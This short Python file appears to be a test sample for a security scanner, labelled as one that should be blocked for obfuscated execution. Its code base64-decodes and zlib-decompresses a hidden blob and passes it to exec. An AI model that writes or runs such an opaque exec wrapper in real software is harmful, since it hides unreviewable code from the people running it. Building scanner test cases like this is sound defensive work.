# expect: BLOCKED category: obfuscated_exec variant-of: risky/obfuscated_exec/zlib_b64_exec.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJw1jsEKgkAURffzFQ/bOFCjkblzIWZkSUREtZ1xHiGpMzhGjV9fki7vvXDumUH6weLVoQEOhap1i8agnIPgBsNggU2hJErQ3FaKS0bKWqu2G+cp9VUpCBGVEhCBg/s+75NVllt9tolX29K7HcLA5M/muLxuTpft7r6Os/jhp5n/jiKH4M/BHSBM4iTh/i+YCIOhlOgOfErZmCj9AmnoPmI=')))
